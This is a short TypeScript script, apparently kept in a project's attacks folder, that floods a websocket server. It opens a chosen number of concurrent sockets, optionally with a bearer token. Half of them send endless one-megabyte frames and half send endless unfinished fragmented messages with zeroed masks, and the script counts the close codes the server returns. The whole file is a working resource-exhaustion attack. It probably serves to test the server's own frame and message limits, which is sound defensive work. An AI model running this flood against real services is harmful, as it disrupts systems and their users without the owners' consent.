/**
 * Websockets that send what nobody may: half of them frames of a megabyte, half of them a message in pieces without end.
 *
 *   node attacks/large-frames.ts <websocket address> <sockets> <at once> [bearer token]
 *
 * Says how many were closed with which code.
 */
import { setImmediate as turn } from 'node:timers/promises'
import { WebSocket } from 'ws'

const MEGABYTE = Buffer.alloc(1024 * 1024, 'a')
const PIECE = Buffer.alloc(1024, 'a')
const [address = '', sockets = '100', atOnce = '100', token] = process.argv.slice(2)
const codes = { frames: {}, pieces: {} } as Record<'frames' | 'pieces', Record<number, number>>
const SEND = { frames: sendFrames, pieces: sendPieces }
let opened = 0

await Promise.all(Array.from({ length: Number(atOnce) }, goOn))
console.log(JSON.stringify(codes))

async function goOn(): Promise<void> {
  while (opened < Number(sockets)) {
    opened += 1
    const kind = opened % 2 === 0 ? 'frames' : 'pieces'
    const code = await attack(SEND[kind])
    codes[kind][code] = (codes[kind][code] ?? 0) + 1
  }
}

async function attack(send: (socket: WebSocket) => Promise<void>): Promise<number> {
  const headers = token ? { authorization: `Bearer ${token}` } : {}
  const socket = new WebSocket(address, { headers, generateMask: noMask })
  socket.on('error', () => {})
  socket.on('open', () => void send(socket))
  return new Promise((resolve) => socket.once('close', resolve))
}

/** RFC 6455 s5.3 with a mask of zeros: nothing is to be computed, so that the attack hears at once what it is told. */
function noMask(mask: Buffer): void {
  mask.fill(0)
}

async function sendFrames(socket: WebSocket): Promise<void> {
  while (socket.readyState === WebSocket.OPEN) {
    await new Promise((resolve) => socket.send(MEGABYTE, resolve))
    await turn()
  }
}

async function sendPieces(socket: WebSocket): Promise<void> {
  while (socket.readyState === WebSocket.OPEN) {
    await new Promise((resolve) => socket.send(PIECE, { fin: false }, resolve))
    await turn()
  }
}
